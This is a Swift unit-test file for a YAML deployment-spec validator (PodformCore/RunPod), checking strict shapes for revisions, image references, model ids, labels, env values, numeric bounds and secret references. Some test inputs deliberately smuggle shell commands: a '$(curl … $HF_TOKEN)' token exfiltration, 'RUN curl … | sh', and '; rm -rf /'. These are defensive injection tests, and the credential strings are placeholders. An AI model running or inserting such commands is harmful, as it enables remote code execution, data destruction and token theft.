import XCTest

@testable import PodformCore

/// Strict shapes for spec strings that reach a Dockerfile, a shell, a URL or a RunPod id, the
/// numeric bounds, and the positive secret rule (issue 14).
final class ShapeTests: XCTestCase {
    let minimal = """
        version: 1
        name: chat
        model: {id: meta-llama/Llama-3.1-8B-Instruct}
        context: 4k
        concurrency: 8

        """

    func check(_ marked: String) -> (MarkedText, [Diagnostic]) {
        let m = MarkedText(marked)
        return (m, Spec.validate(path: "spec.yaml", text: m.text, environment: .empty).1)
    }

    /// Exactly the (code, line, column) triples of the errors.
    func errors(_ d: [Diagnostic]) -> [String] {
        d.filter { $0.severity == .error }.map { "\($0.code)@\($0.location.line):\($0.location.column)" }
    }

    func at(_ m: MarkedText, _ code: String, _ marker: String) -> String {
        let p = m.markers[marker]!
        return "\(code)@\(p.line):\(p.column)"
    }

    // MARK: the attacks

    func testShellInTheRevisionIsRejectedAtItsLocation() {
        let (m, d) = check(
            """
            version: 1
            name: chat
            model: {id: meta-llama/Llama-3.1-8B-Instruct, revision: 1️⃣"main$(curl x $HF_TOKEN)"}
            context: 4k
            concurrency: 8

            """)
        XCTAssertEqual(errors(d), [at(m, "invalid-revision", "1️⃣")])
        // The message shows the value escaped, never a raw newline or an unescaped backtick.
        XCTAssertTrue(d[0].message.contains("main$(curl x $HF_TOKEN)"), d[0].message)
    }

    func testImageWithANewlineAndAnInstructionIsRejected() {
        let (m, d) = check(
            minimal + """
                deploy:
                  image: 1️⃣"vllm/vllm-openai:v0.27.1\\n\\tRUN curl http://x | sh"

                """)
        XCTAssertEqual(errors(d), [at(m, "invalid-image", "1️⃣")])
        XCTAssertFalse(d[0].message.contains("\n"), d[0].message)
        XCTAssertTrue(d[0].message.contains("v0.27.1\\n\\tRUN curl"), d[0].message)
        XCTAssertFalse(d.contains { $0.code == "unpinned-image" })
    }

    func testDataCentersMustBeRunPodIds() {
        let (m, d) = check(
            minimal + """
                constraints:
                  data_centers: [EU-RO-1, 1️⃣"EU-RO-1\\n", 2️⃣../x, 3️⃣eu-ro-1, CA-MTL-1, 4️⃣"US-TX-3 "]

                """)
        XCTAssertEqual(
            errors(d),
            [
                at(m, "invalid-data-center", "1️⃣"), at(m, "invalid-data-center", "2️⃣"),
                at(m, "invalid-data-center", "3️⃣"), at(m, "invalid-data-center", "4️⃣")
            ])
    }

    func testModelIdsLabelsAndEnv() {
        let (m, d) = check(
            """
            version: 1
            name: chat
            model: {id: 1️⃣"meta-llama/Llama 3; rm -rf /"}
            context: 4k
            concurrency: 8
            labels: {team: search, app.kubernetes.io/part-of: chat, "bad key!": 2️⃣x, tier: 3️⃣"a b"}
            deploy:
              env:
                OK: "a value with spaces, quotes \\" and $dollars"
                MULTI: 4️⃣"line one\\nRUN curl x"
                BELL: 5️⃣"\\a"

            """)
        XCTAssertEqual(
            Set(errors(d)),
            [
                at(m, "invalid-model-id", "1️⃣"), at(m, "invalid-label", "2️⃣"), at(m, "invalid-label", "3️⃣"),
                at(m, "invalid-env-value", "4️⃣"), at(m, "invalid-env-value", "5️⃣")
            ])
        XCTAssertEqual(errors(d).count, 5)
    }

    func testEveryExampleShapeIsAccepted() {
        let (_, d) = check(
            """
            version: 1
            name: chat
            model: {id: meta-llama/Llama-3.1-8B-Instruct, revision: 0e9e39f249a16976918f6564b8830bc894c89659}
            context: 4k
            concurrency: 8
            labels: {team: search, example.com/owner: a_b.c-d, empty: ""}
            constraints: {data_centers: [EU-RO-1, US-TX-3, CA-MTL-1]}
            deploy:
              image: ghcr.io/acme/vllm-openai:v0.11.0@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
              env: {LOG_LEVEL: debug, GIT_SHA: 0e9e39f249a16976918f6564b8830bc894c89659, TOKENIZER_MODE: auto-detected}

            """)
        XCTAssertEqual(errors(d), [])
    }

    // MARK: the shapes themselves

    func testRevisionShape() {
        for ok in [
            "main", "v1.0", "refs/pr/12", "release/2024-01_a", String(repeating: "a", count: 255),
            "0e9e39f249a16976918f6564b8830bc894c89659"
        ] {
            XCTAssertTrue(StringShape.isRevision(ok), ok)
        }
        for bad in [
            "", "-main", "main..x", "a//b", "/main", "main/", ".hidden", "main.", "main$(id)", "ma`id`in", "a b",
            "a\nb", "a\tb", "'x'", "\"x\"", "x;y", String(repeating: "a", count: 256), "mäin"
        ] {
            XCTAssertFalse(StringShape.isRevision(bad), bad)
        }
    }

    func testModelIDShape() {
        for ok in ["meta-llama/Llama-3.1-8B-Instruct", "gpt2", "llama-3.1-8b", "Qwen/Qwen2.5-0.5B-Instruct", "a/b"] {
            XCTAssertTrue(StringShape.isModelID(ok), ok)
        }
        for bad in [
            "", "a/b/c", "/a", "a/", "a--b/c", "a/b--c", "a..b/c", "-a/b", "a/b-", "a b/c", "a/b\n", "a/$(x)",
            String(repeating: "a", count: 97) + "/b"
        ] {
            XCTAssertFalse(StringShape.isModelID(bad), bad)
        }
    }

    func testImageReferenceShape() {
        for ok in [
            "vllm/vllm-openai:v0.27.1", "ubuntu", "ubuntu:22.04", "localhost:5000/a/b:c", "ghcr.io/o/r",
            "registry.example.com:443/team/app__x.y-z:TAG_1", "a@sha256:" + String(repeating: "f", count: 64),
            "Registry.Example.com/app:1", "a---b:1"
        ] {
            XCTAssertTrue(StringShape.isImageReference(ok), ok)
        }
        for bad in [
            "", " ", "vllm/Vllm", "vllm/vllm openai", "vllm/vllm\nRUN x", "a\tb", "a:", "a:-x", "a@sha256:abc",
            "a/", "/a", "a//b", "a._b", "a___b", "-a", "a:b:c", "a:$(x)", "a@sha256:" + String(repeating: "g", count: 64),
            "host:99999999/a", String(repeating: "a", count: 256)
        ] {
            XCTAssertFalse(StringShape.isImageReference(bad), bad)
        }
    }

    func testLabelShapes() {
        XCTAssertTrue(StringShape.isLabelKey("app.kubernetes.io/name"))
        XCTAssertTrue(StringShape.isLabelKey("team"))
        XCTAssertFalse(StringShape.isLabelKey("Example.com/name"))
        XCTAssertFalse(StringShape.isLabelKey("a/b/c"))
        XCTAssertFalse(StringShape.isLabelKey("/name"))
        XCTAssertFalse(StringShape.isLabelKey(String(repeating: "a", count: 64)))
        XCTAssertTrue(StringShape.isLabelValue(""))
        XCTAssertTrue(StringShape.isLabelValue(String(repeating: "a", count: 63)))
        XCTAssertFalse(StringShape.isLabelValue(String(repeating: "a", count: 64)))
        XCTAssertFalse(StringShape.isLabelValue("-a"))
        XCTAssertFalse(StringShape.isLabelValue("a\n"))
    }

    func testExcerptEscapesWhatCouldBreakALine() {
        XCTAssertEqual(StringShape.excerpt("a\nb\tc\rd`e\u{200B}f\u{7}"), "a\\nb\\tc\\rd\\`e\\u{200B}f\\u{7}")
        XCTAssertEqual(StringShape.excerpt(String(repeating: "x", count: 100), limit: 3), "xxx…")
    }

    // MARK: numbers

    func testHugeTokenCountsAreBoundedNotTrapped() {
        let (m, d) = check(
            """
            version: 1
            name: chat
            model: {id: meta-llama/Llama-3.1-8B-Instruct, parameters: 2️⃣9223372036854775807}
            context: 4k
            concurrency: 8
            traffic: {prompt_tokens: 1️⃣9223372036854775807, output_tokens: 3️⃣9223372036854775807}
            training: {sequence_length: 4️⃣9223372036854775807}

            """)
        XCTAssertEqual(
            Set(errors(d)),
            [
                at(m, "out-of-range", "1️⃣"), at(m, "out-of-range", "2️⃣"), at(m, "out-of-range", "3️⃣"),
                at(m, "out-of-range", "4️⃣")
            ])
    }

    func testContainerDiskBounds() {
        for (value, ok) in [("0GB", false), ("4GB", false), ("5GB", true), ("4TB", true), ("4.5TB", false), ("999999TB", false)] {
            let (m, d) = check(minimal + "deploy: {container_disk: 1️⃣\(value)}\n")
            XCTAssertEqual(errors(d), ok ? [] : [at(m, "out-of-range", "1️⃣")], value)
        }
    }

    // MARK: secrets: a positive rule

    func testSecretShapesAreRejectedAndNeverEchoed() {
        let literals: [(String, String)] = [
            ("WANDB_API_KEY", "0123456789abcdef0123456789abcdef01234567"),
            ("TRACKER", "0123456789abcdef0123456789abcdef01234567"),
            ("SLACK", "xoxb-123456789012-1234567890123-abcdefghij"),
            ("NOTIFY_URL", "https://hooks.slack.com/services/T000/B000/XXXXXXXX"),
            ("DATABASE_URL", "postgres://app:s3cr3tpass@db.internal:5432/app"),
            ("REDIS", "redis://:hunter2hunter2@cache:6379"),
            ("DB_PASSWORD", "correct horse battery staple"),
            ("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE"),
            ("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"),
            ("GH", "ghp_0123456789abcdefghijklmnopqrstuvwxyz"),
            ("GH2", "github_pat_11ABCDEFG0123456789_abcdefghijkl"),
            ("OPENAI", "sk-proj-0123456789abcdefghij"),
            ("HF", "hf_abcdefghijklmnopqrstuvwxyz"),
            ("RP", "rpa_ABCDEFGHIJKLMNOPQRSTUVWXYZ012345"),
            ("AUTH_HEADER", "Bearer hf_abcdefghijklmnopqrstuvwxyz")
        ]
        for (name, value) in literals {
            let (m, d) = check(minimal + "deploy:\n  env:\n    \(name): 1️⃣\"\(value)\"\n")
            XCTAssertEqual(errors(d), [at(m, "literal-secret", "1️⃣")], name)
            XCTAssertFalse(d.map { $0.message + ($0.hint ?? "") }.joined().contains(value), name)
        }
    }

    func testOnlyAnExactReferenceIsASecretReference() {
        let (m, d) = check(
            minimal + """
                deploy:
                  env:
                    A: "{{ RUNPOD_SECRET_hf_token }}"
                    B: "{{RUNPOD_SECRET_hf-token}}"
                    C: 1️⃣"hf_abcdefghijklmnopqrstuvwxyz {{ RUNPOD_SECRET_x }}"
                    D: 2️⃣"{{ RUNPOD_SECRET_x }} and more"
                    E: 3️⃣"{{ RUNPOD_SECRET_bad name }}"
                    F: 4️⃣"{{ RUNPOD_SECRET_a }}{{ RUNPOD_SECRET_b }}"

                """)
        XCTAssertEqual(
            Set(errors(d)),
            [
                at(m, "invalid-secret-reference", "1️⃣"), at(m, "invalid-secret-reference", "2️⃣"),
                at(m, "invalid-secret-reference", "3️⃣"), at(m, "invalid-secret-reference", "4️⃣")
            ])
        XCTAssertEqual(errors(d).count, 4)
        XCTAssertTrue(SecretShape.isSecretReference("{{ RUNPOD_SECRET_hf_token }}"))
        XCTAssertFalse(SecretShape.isSecretReference("{{ RUNPOD_SECRET_ }}"))
    }

    func testOrdinaryValuesAreNotSecrets() {
        for (name, value) in [
            ("LOG_LEVEL", "debug"), ("GIT_SHA", "0123456789abcdef0123456789abcdef01234567"),
            ("MAX_NUM_BATCHED_TOKENS", "16384"), ("TOKENIZER_MODE", "auto-detected"),
            ("HOMEPAGE", "https://example.com/a:b@c"), ("DB_HOST", "postgres://db.internal:5432/app"),
            ("DESCRIPTION", "skipping sk- words is fine"), ("PASSWORD_POLICY_URL", "")
        ] {
            XCTAssertFalse(SecretShape.isLiteralSecret(name: name, value: value), "\(name)=\(value)")
        }
    }

    /// The diff hides live values that may be credentials, and shows settings whose names only
    /// contain TOKEN(S)/TOKENIZER (worker-vllm's `TOKENIZER_NAME`, `MAX_NUM_BATCHED_TOKENS`).
    func testDiffHidesCredentialsButShowsTokenCounts() {
        for (name, value) in [
            ("MAX_NUM_BATCHED_TOKENS", "16384"), ("TOKENIZER_NAME", "meta-llama/Llama-3.1-8B-Instruct"),
            ("TOKENIZER_MODE", "auto"), ("MAX_TOKENS", "512")
        ] {
            XCTAssertFalse(SecretShape.mayBeSecret(name: name, value: value), "\(name)=\(value)")
        }
        for (name, value) in [
            ("HF_TOKEN", "x"), ("TOKEN", "abc"), ("MY_API_KEY", "short"), ("TOKENIZER_TOKEN", "abc"),
            ("DB_CREDENTIALS", "u:p"), ("OTHER", "hf_abcdefghijklmnop")
        ] {
            XCTAssertTrue(SecretShape.mayBeSecret(name: name, value: value), "\(name)=\(value)")
        }
    }
}
